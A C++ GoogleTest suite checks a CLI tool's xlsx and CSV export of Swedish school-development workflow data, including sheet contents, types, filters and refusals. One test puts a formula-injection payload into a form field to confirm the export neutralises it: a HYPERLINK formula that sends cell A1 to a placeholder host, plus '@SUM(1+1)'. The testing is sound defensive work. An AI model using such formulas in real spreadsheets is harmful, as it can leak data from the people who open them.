// `spegla export` end to end through the real binary: a demo database of every shipped workflow exported
// to xlsx and CSV, read back by openpyxl, python's csv module and LibreOffice (programs we did not write),
// with the right sheets, values and types; filters; formula injection typed into a form; refusals that
// leave no file behind.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <boost/json.hpp>
#include <filesystem>
#include <set>

#include "../engine/engine_test_support.h"
#include "../plugins/export_test_support.h"
#include "../support/external_programs.h"
#include "plugins_render_support.h"

namespace spegla::test {
namespace {

namespace fs = std::filesystem;
namespace json = boost::json;
using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::HasSubstr;

constexpr const char* kEverySheetAsCsv =
    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1";

// One demo database for the whole suite (filling it is the slow part); tests export from it and may add
// their own instances, never change the demo's.
class ExportCliTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dir_ = new fs::path(fs::temp_directory_path() / ("spegla-export-cli-" + std::to_string(::getpid())));
    fs::remove_all(*dir_);
    fs::create_directories(*dir_);
    Spawned demo = Run({"demo", "--instances", "15", "--workflows", SPEGLA_SOURCE_DIR "/workflows"});
    ASSERT_EQ(demo.status, 0) << demo.err;
  }
  static void TearDownTestSuite() {
    std::error_code ignored;
    fs::remove_all(*dir_, ignored);
    delete dir_;
    dir_ = nullptr;
  }

  static Spawned Run(std::vector<std::string> args) {
    args.insert(args.end(), {"--db", Path("spegla.db")});
    return RunSpegla(args, *dir_, *dir_ / "share");
  }
  static json::object Json(const Spawned& s) {
    EXPECT_EQ(s.status, 0) << s.err;
    return s.status == 0 ? json::parse(s.out).as_object() : json::object{};
  }
  static std::string Path(std::string_view name) { return (*dir_ / name).string(); }

  // The sheets of a workbook as openpyxl reads them, by name.
  static std::map<std::string, json::object> Sheets(const std::string& file) {
    std::map<std::string, json::object> sheets;
    json::value read = ReadTable(file);
    if (!read.is_object()) return sheets;
    for (const json::value& s : read.at("sheets").as_array()) {
      sheets[std::string(s.at("name").as_string())] = s.as_object();
    }
    return sheets;
  }
  static size_t Column(const json::object& sheet, std::string_view label) {
    const json::array& header = sheet.at("rows").as_array().at(0).as_array();
    for (size_t i = 0; i < header.size(); ++i) {
      if (header[i].is_object() && header[i].at("v").is_string() && header[i].at("v").as_string() == label) return i;
    }
    ADD_FAILURE() << "no column " << label;
    return 0;
  }

  static fs::path* dir_;
};
fs::path* ExportCliTest::dir_ = nullptr;

TEST_F(ExportCliTest, EveryShippedSheetReadsBackWithItsTypes) {
  json::object out = Json(Run({"export", "-o", Path("all.xlsx"), "--json"}));
  ASSERT_FALSE(out.empty());
  const std::int64_t instances = out.at("instances").as_int64();
  EXPECT_GE(instances, 15);

  std::map<std::string, json::object> sheets = Sheets(Path("all.xlsx"));
  std::vector<std::string> names;
  for (const auto& [name, sheet] : sheets) names.push_back(name);
  EXPECT_THAT(names, ::testing::UnorderedElementsAre("Översikt", "ALP lärande besök", "KU8 lärande besök",
                                                     "KU8 observatörstid", "Lärdomar", "Kvalitetsutvecklare Örebro",
                                                     "Pedagogcentrum", "SBS processledarstöd", "SBS åtgärder",
                                                     "Sammanfattning"));
  // Every sheet's row count is what the command said it wrote.
  for (const json::value& s : out.at("sheets").as_array()) {
    const std::string name(s.at("name").as_string());
    ASSERT_TRUE(sheets.count(name)) << name;
    EXPECT_EQ(sheets[name].at("rows").as_array().size(), static_cast<size_t>(s.at("rows").as_int64()) + 1) << name;
  }

  const json::object& overview = sheets["Översikt"];
  const json::array& rows = overview.at("rows").as_array();
  ASSERT_EQ(rows.size(), static_cast<size_t>(instances) + 1);
  EXPECT_EQ(overview.at("freeze_panes"), "A2");
  EXPECT_THAT(std::string(overview.at("auto_filter").as_string()), HasSubstr("A1:"));
  EXPECT_TRUE(rows[0].as_array()[0].at("bold").as_bool());
  const size_t nr = Column(overview, "Nr"), started = Column(overview, "Startad"),
               late = Column(overview, "Försenad"), active = Column(overview, "Senast aktiv (UTC)"),
               status = Column(overview, "Status"), used = Column(overview, "Observatörsdagar, använt");
  std::set<std::string> statuses;
  bool some_budget = false;
  for (size_t r = 1; r < rows.size(); ++r) {
    const json::array& row = rows[r].as_array();
    EXPECT_EQ(row.at(nr).at("t"), "int");
    EXPECT_EQ(row.at(started).at("t"), "datetime");
    EXPECT_EQ(row.at(started).at("f"), "yyyy-mm-dd");
    EXPECT_EQ(row.at(late).at("t"), "bool");
    EXPECT_EQ(row.at(active).at("t"), "datetime");
    statuses.insert(std::string(row.at(status).at("v").as_string()));
    if (used < row.size() && row.at(used).is_object()) {
      EXPECT_THAT(std::string(row.at(used).at("t").as_string()), ::testing::AnyOf("int", "float"));
      some_budget = true;
    }
  }
  EXPECT_THAT(statuses, Contains("Pågående"));
  EXPECT_TRUE(some_budget);

  // A process sheet: dates and counts typed, choices as labels.
  const json::object& ku8 = sheets["KU8 lärande besök"];
  const size_t days = Column(ku8, "Observationsdagar");
  for (size_t r = 1; r < ku8.at("rows").as_array().size(); ++r) {
    EXPECT_EQ(ku8.at("rows").as_array()[r].as_array().at(days).at("t"), "int");
  }
  const json::object& summary = sheets["Sammanfattning"];
  EXPECT_EQ(summary.at("charts").as_array().size(), 2u);
  json::value props = ReadTable(Path("all.xlsx")).at("properties");
  EXPECT_EQ(props.at("title"), "Spegla – översikt över utvecklingsarbetet");
}

TEST_F(ExportCliTest, LibreOfficeOpensEverySheet) {
  ASSERT_EQ(Run({"export", "-o", Path("lo.xlsx")}).status, 0);
  ASSERT_TRUE(ConvertWithLibreOffice(*dir_, {Path("lo.xlsx")}, kEverySheetAsCsv, Path("lo")));
  std::vector<std::vector<std::string>> overview = CsvRows(Path("lo/lo-Översikt.csv"), ",");
  ASSERT_GE(overview.size(), 16u);
  EXPECT_EQ(overview[0][0], "Nr");
  EXPECT_EQ(overview[0][8], "Startad");
  EXPECT_THAT(overview[1][8], ::testing::MatchesRegex("20[0-9][0-9]-[01][0-9]-[0-3][0-9]"));
  EXPECT_THAT(overview[1][11], ::testing::AnyOf("TRUE", "FALSE"));
  std::vector<std::vector<std::string>> summary = CsvRows(Path("lo/lo-Sammanfattning.csv"), ",");
  ASSERT_FALSE(summary.empty());
  EXPECT_THAT(summary[0], ElementsAre("Process", "Pågående", "Avslutade", "Totalt", "Försenade"));
  EXPECT_TRUE(fs::exists(Path("lo/lo-Lärdomar.csv")));
}

TEST_F(ExportCliTest, CsvIsTheOverviewWithABomAndSwedishSeparators) {
  json::object out = Json(Run({"export", "-o", Path("oversikt.csv"), "--separator", ";", "--json"}));
  ASSERT_FALSE(out.empty());
  EXPECT_EQ(out.at("format"), "csv");
  const std::string bytes = Slurp(Path("oversikt.csv"));
  EXPECT_EQ(bytes.substr(0, 3), "\xEF\xBB\xBF");
  std::vector<std::vector<std::string>> rows = CsvRows(Path("oversikt.csv"), ";");
  ASSERT_EQ(rows.size(), static_cast<size_t>(out.at("instances").as_int64()) + 1);
  EXPECT_EQ(rows[0][0], "Nr");
  EXPECT_THAT(rows[1][8], ::testing::MatchesRegex("20[0-9][0-9]-[01][0-9]-[0-3][0-9]"));
  EXPECT_THAT(rows[1][11], ::testing::AnyOf("Ja", "Nej"));

  ASSERT_EQ(Run({"export", "-o", Path("tid.csv"), "--sheet", "KU8 observatörstid"}).status, 0);
  std::vector<std::vector<std::string>> time = CsvRows(Path("tid.csv"), ",");
  ASSERT_FALSE(time.empty());
  EXPECT_THAT(time[0], ElementsAre("Nr", "Kommun", "Enhet", "Process", "Rad", "Observatör", "Aktivitet", "Dagar"));
}

TEST_F(ExportCliTest, FormulasTypedIntoAFormStayText) {
  json::object m = Json(Run({"org", "municipality", "add", "Formelby", "--json"}));
  ASSERT_FALSE(m.empty());
  const std::string municipality = std::to_string(m.at("id").as_int64());
  json::object u = Json(Run({"org", "unit", "add", municipality, "Formelskolan", "--json"}));
  ASSERT_FALSE(u.empty());
  ASSERT_EQ(Run({"org", "user", "add", "formel.rektor", "Formel Rektor", "--municipality", municipality}).status, 0);
  json::object i = Json(Run({"instance", "create", "ku8-larande-besok", "--unit",
                             std::to_string(u.at("id").as_int64()), "--json"}));
  ASSERT_FALSE(i.empty());
  const std::string id = std::to_string(i.at("id").as_int64());
  ASSERT_EQ(Run({"instance", "assign", id, "rektor", "formel.rektor"}).status, 0);
  const std::string attack = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Klicka\")";
  Spawned set = Run({"instance", "set", id, "ansokan.arbetslag_namn", attack, "ansokan.enhet", "@SUM(1+1)",
                     "--as", "formel.rektor"});
  ASSERT_EQ(set.status, 0) << set.err;

  ASSERT_EQ(Run({"export", "-o", Path("formel.csv"), "--sheet", "KU8 lärande besök", "--municipality",
                 "Formelby"})
                .status,
            0);
  std::vector<std::vector<std::string>> rows = CsvRows(Path("formel.csv"), ",");
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_THAT(rows[1], Contains("'" + attack));
  EXPECT_THAT(rows[1], Contains("'@SUM(1+1)"));

  ASSERT_EQ(Run({"export", "-o", Path("formel.xlsx"), "--municipality", "Formelby"}).status, 0);
  json::object ku8 = Sheets(Path("formel.xlsx"))["KU8 lärande besök"];
  const json::array& row = ku8.at("rows").as_array().at(1).as_array();
  const json::value& cell = row.at(Column(ku8, "Arbetslag"));
  EXPECT_EQ(cell.at("t"), "str");  // openpyxl sees a string, not a formula
  EXPECT_EQ(cell.at("v").as_string(), attack);
}

TEST_F(ExportCliTest, FiltersNarrowTheExport) {
  auto instances = [](std::vector<std::string> filter) {
    std::vector<std::string> args = {"export", "-o", Path("f.xlsx"), "--json"};
    args.insert(args.end(), filter.begin(), filter.end());
    json::object out = Json(Run(args));
    return out.empty() ? -1 : out.at("instances").as_int64();
  };
  const std::int64_t all = instances({});
  const std::int64_t ku8 = instances({"--workflow", "ku8-larande-besok"});
  const std::int64_t active = instances({"--status", "active"});
  const std::int64_t completed = instances({"--status", "completed"});
  EXPECT_GT(ku8, 0);
  EXPECT_LT(ku8, all);
  EXPECT_EQ(active + completed, all);
  EXPECT_GT(completed, 0);  // the demo walks one instance of each process to the end
  EXPECT_EQ(instances({"--from", "2000-01-01", "--to", "2000-12-31"}), 0);
}

TEST_F(ExportCliTest, AnExportOfNothingIsAValidWorkbook) {
  json::object out =
      Json(Run({"export", "-o", Path("nothing.xlsx"), "--from", "2000-01-01", "--to", "2000-12-31", "--json"}));
  ASSERT_FALSE(out.empty());
  EXPECT_EQ(out.at("instances").as_int64(), 0);
  std::map<std::string, json::object> sheets = Sheets(Path("nothing.xlsx"));
  ASSERT_TRUE(sheets.count("Översikt"));
  ASSERT_EQ(sheets["Översikt"].at("rows").as_array().size(), 1u);  // the header alone
  EXPECT_TRUE(sheets["Sammanfattning"].at("charts").as_array().empty());
  ASSERT_TRUE(ConvertWithLibreOffice(*dir_, {Path("nothing.xlsx")}, kEverySheetAsCsv, Path("nothing")));
  std::vector<std::vector<std::string>> overview = CsvRows(Path("nothing/nothing-Översikt.csv"), ",");
  ASSERT_EQ(overview.size(), 1u);
  EXPECT_EQ(overview[0][0], "Nr");

  ASSERT_EQ(Run({"export", "-o", Path("nothing.csv"), "--from", "2000-01-01", "--to", "2000-12-31"}).status, 0);
  EXPECT_THAT(CsvRows(Path("nothing.csv"), ","), ElementsAre(Contains("Senast aktiv (UTC)")));
}

TEST_F(ExportCliTest, RefusalsLeaveNoFileBehind) {
  ASSERT_EQ(Run({"org", "user", "add", "pelle.personal", "Pelle Personal", "--role", "personal"}).status, 0);
  Spawned refused = Run({"export", "-o", Path("refused.xlsx"), "--as", "pelle.personal"});
  EXPECT_EQ(refused.status, 1);
  EXPECT_THAT(refused.err, HasSubstr("Bara administratörer"));
  EXPECT_FALSE(fs::exists(Path("refused.xlsx")));
  for (const fs::directory_entry& e : fs::directory_iterator(*dir_)) {
    EXPECT_EQ(e.path().filename().string().find(".tmp-"), std::string::npos) << e.path();
  }

  EXPECT_EQ(Run({"export", "-o", Path("x.xlsx"), "--from", "1 maj"}).status, 2);
  EXPECT_EQ(Run({"export", "-o", Path("x.xlsx"), "--status", "klar"}).status, 2);
  EXPECT_EQ(Run({"export", "-o", Path("x.xlsx"), "--format", "pdf"}).status, 2);
  EXPECT_EQ(Run({"export"}).status, 2);
  Spawned no_sheet = Run({"export", "-o", Path("x.csv"), "--sheet", "Finns inte"});
  EXPECT_EQ(no_sheet.status, 1);
  EXPECT_THAT(no_sheet.err, HasSubstr("Det finns inget blad ”Finns inte”"));
  EXPECT_FALSE(fs::exists(Path("x.xlsx")));
  EXPECT_FALSE(fs::exists(Path("x.csv")));
}

}  // namespace
}  // namespace spegla::test
